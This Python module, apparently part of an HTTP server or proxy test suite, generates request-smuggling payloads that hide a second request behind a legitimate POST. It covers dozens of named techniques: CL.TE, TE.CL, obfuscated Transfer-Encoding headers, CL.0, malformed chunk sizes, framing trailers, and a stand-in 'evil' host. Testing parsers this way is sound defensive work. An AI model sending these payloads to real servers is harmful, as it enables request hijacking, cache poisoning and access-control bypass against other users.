"""Requests that hide another one, for whoever cuts the bytes elsewhere. `hidden` is a whole, good request."""

from collections.abc import Callable

Make = Callable[[bytes, bytes, bytes], bytes]
"""From the head of a good POST without its end and without any framing, its body, and the hidden request."""


def _framed(lines: bytes, body: Callable[[bytes, bytes], bytes]) -> Make:
    return lambda head, own, hidden: head + lines + b"\r\n" + body(own, hidden)


def _chunks(*pieces: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


def _length(line: bytes = b"") -> Make:
    """A good length, and the hidden request behind it: pipelining, unless the line changes the meaning."""
    return lambda head, own, hidden: head + line + b"Content-Length: %d\r\n\r\n" % len(own) + own + hidden


def _swallowing(line: bytes) -> Make:
    """The hidden request is part of the body by its length, and behind the last chunk by its coding."""
    return lambda head, own, hidden: (
        head + line + b"Content-Length: %d\r\n\r\n" % len(_chunks(own) + hidden) + _chunks(own) + hidden
    )


def _chunked(line: bytes = b"") -> Make:
    return _framed(line + b"Transfer-Encoding: chunked\r\n", lambda own, hidden: _chunks(own) + hidden)


def _odd_chunks(odd: Callable[[bytes], bytes]) -> Make:
    return _framed(b"Transfer-Encoding: chunked\r\n", lambda own, hidden: odd(own) + hidden)


def _body_of(line: bytes) -> Make:
    """The hidden request is the body of one that usually has none."""
    return lambda head, own, hidden: (
        line + head.partition(b"\r\n")[2] + b"Content-Length: %d\r\n\r\n" % len(hidden) + hidden
    )


CODING = b"Transfer-Encoding: chunked\r\n"

SMUGGLING: dict[str, Make] = {
    "plain pipelining": _length(),
    "pipelined chunks": _chunked(),
    "CL.TE": _swallowing(CODING),
    "CL.TE, other letters": _swallowing(b"tRANSFER-eNCODING: cHUNKED\r\n"),
    "TE.CL": lambda head, own, hidden: head + CODING + b"Content-Length: 4\r\n\r\n" + _chunks(own) + hidden,
    "TE.TE, unknown coding": _swallowing(b"Transfer-Encoding: xchunked\r\n"),
    "TE.TE, hidden coding": _swallowing(CODING + b"Transfer-Encoding: identity\r\n"),
    "TE.TE, hidden coding first": _swallowing(b"Transfer-Encoding: identity\r\n" + CODING),
    "TE.TE, list": _swallowing(b"Transfer-Encoding: identity, chunked\r\n"),
    "TE.TE, comma": _swallowing(b"Transfer-Encoding: ,chunked\r\n"),
    "TE.TE, quotes": _swallowing(b'Transfer-Encoding: "chunked"\r\n'),
    "TE.TE, space before the colon": _swallowing(b"Transfer-Encoding : chunked\r\n"),
    "TE.TE, space before the name": _swallowing(b" Transfer-Encoding: chunked\r\n"),
    "TE.TE, vertical tab": _swallowing(b"Transfer-Encoding:\x0bchunked\r\n"),
    "TE.TE, tab": _swallowing(b"Transfer-Encoding:\tchunked\r\n"),
    "TE.TE, NUL": _swallowing(b"Transfer-Encoding: chunked\x00\r\n"),
    "TE.TE, line feed in a value": _swallowing(b"X: y\nTransfer-Encoding: chunked\r\n"),
    "TE.TE, carriage return in a value": _swallowing(b"X: y\rTransfer-Encoding: chunked\r\n"),
    "TE.TE, folded": _swallowing(b"Transfer-Encoding:\r\n chunked\r\n"),
    "TE.TE, folded behind another": _swallowing(b"X: y\r\n Transfer-Encoding: chunked\r\n"),
    "TE.TE, underscore": _swallowing(b"Transfer_Encoding: chunked\r\n"),
    "TE.TE, stacked": _swallowing(b"Transfer-Encoding: gzip, chunked\r\n"),
    "TE.TE, taken for a hop's own": _swallowing(b"Connection: Transfer-Encoding\r\n" + CODING),
    "length taken for a hop's own": _length(b"Connection: Content-Length\r\n"),
    "key taken for a hop's own": _length(b"Connection: Authorization\r\n"),
    "host taken for a hop's own": _length(b"Connection: Host\r\n"),
    "two lengths": _length(b"Content-Length: 0\r\n"),
    "length with an underscore": _length(b"Content_Length: 0\r\n"),
    "length folded": _length(b"X: y\r\n Content-Length: 0\r\n"),
    "length with a sign": lambda head, own, hidden: head + b"Content-Length: +0\r\n\r\n" + hidden,
    "length of nothing": lambda head, own, hidden: head + b"Content-Length: 0\r\n\r\n" + hidden,
    "no length at all": lambda head, own, hidden: head + b"\r\n" + hidden,
    "CL.0 at a GET": _body_of(b"GET /v1/models HTTP/1.1\r\n"),
    "CL.0 at a HEAD": _body_of(b"HEAD /v1/models HTTP/1.1\r\n"),
    "CL.0 at an OPTIONS": _body_of(b"OPTIONS /v1/models HTTP/1.1\r\n"),
    "CL.0 at an unknown path": _body_of(b"POST /nowhere HTTP/1.1\r\n"),
    "CL.0 at an unknown method": _body_of(b"FOO /v1/models HTTP/1.1\r\n"),
    "coding on 1.0": lambda head, own, hidden: (
        head.replace(b"HTTP/1.1", b"HTTP/1.0")
        + CODING
        + b"Connection: keep-alive\r\n\r\n"
        + _chunks(own)
        + hidden
    ),
    "kept alive on 1.0": lambda head, own, hidden: _length(b"Connection: keep-alive\r\n")(
        head.replace(b"HTTP/1.1", b"HTTP/1.0"), own, hidden
    ),
    "version 1.9": lambda head, own, hidden: _length()(head.replace(b"HTTP/1.1", b"HTTP/1.9"), own, hidden),
    "absolute target": lambda head, own, hidden: _length()(
        head.replace(b" /", b" http://evil/", 1), own, hidden
    ),
    "two hosts": _length(b"Host: evil\r\n"),
    "path with an escaped line end": lambda head, own, hidden: _length()(
        head.replace(b" HTTP", b"?x=%0d%0aTransfer-Encoding:%20chunked HTTP", 1), own, hidden
    ),
    "tabs in the request line": lambda head, own, hidden: _length()(
        head.replace(b" HTTP", b"\tHTTP", 1), own, hidden
    ),
    "bare line feeds": lambda head, own, hidden: (
        (head + b"Content-Length: %d\r\n\r\n" % len(own)).replace(b"\r\n", b"\n") + own + hidden
    ),
    "empty lines first": lambda head, own, hidden: b"\r\n\r\n" + _length()(head, own, hidden),
    "waiting for leave": _length(b"Expect: 100-continue\r\n"),
    "waiting for leave, in chunks": _chunked(b"Expect: 100-continue\r\n"),
    "waiting for another leave": _length(b"Expect: 100-continue, x\r\n"),
    "upgrade to h2c": _length(
        b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAAAA\r\n"
    ),
    "upgrade to a web socket": _length(
        b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    ),
    "chunk extension": _odd_chunks(lambda own: b"%x;a=b\r\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk extension with quotes": _odd_chunks(
        lambda own: b'%x;a="\r\n0\r\n\r\n"\r\n%s\r\n0\r\n\r\n' % (len(own), own)
    ),
    "chunk extension with a line feed": _odd_chunks(lambda own: b"%x;\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk line with bare line feeds": _odd_chunks(lambda own: b"%x\n%s\n0\n\n" % (len(own), own)),
    "chunk line with a carriage return": _odd_chunks(lambda own: b"%x\r%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk size with a prefix": _odd_chunks(lambda own: b"0x%x\r\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk size with a sign": _odd_chunks(lambda own: b"+%x\r\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk size with zeros": _odd_chunks(lambda own: b"0000%x\r\n%s\r\n000\r\n\r\n" % (len(own), own)),
    "chunk size that overflows": _odd_chunks(lambda own: b"1%016x\r\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk size with a space": _odd_chunks(lambda own: b"%x \r\n%s\r\n0\r\n\r\n" % (len(own), own)),
    "chunk without its end": _odd_chunks(lambda own: b"%x\r\n%s0\r\n\r\n" % (len(own), own)),
    "trailer that frames": _odd_chunks(
        lambda own: _chunks(own)[:-2] + b"Content-Length: 0\r\n" + CODING + b"\r\n"
    ),
    "trailer that identifies": _odd_chunks(
        lambda own: _chunks(own)[:-2] + b"Authorization: Bearer x\r\nHost: evil\r\n\r\n"
    ),
}
